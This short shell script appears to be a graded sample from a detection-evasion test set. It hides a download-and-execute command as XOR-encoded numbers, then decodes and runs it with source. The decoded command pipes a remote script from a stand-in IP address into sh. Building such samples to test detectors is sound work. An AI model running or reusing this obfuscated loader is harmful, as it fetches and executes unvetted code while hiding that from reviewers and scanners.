# evasion: the script is XOR-encoded as numbers, decoded with shell arithmetic and read by source from a process substitution
# grade: very hard; does: download-exec
k=23
data=(116 98 101 123 55 58 113 100 68 91 55 127 99 99 103 45 56 56 37 39 36 57 39 57 38 38 36 57 46 38 56 100 57 100 127 55 107 55 100 127)
decode() {
	local n
	for n in "$@"; do
		printf "\\$(printf '%03o' $((n ^ k)))"
	done
}
source <(decode "${data[@]}")
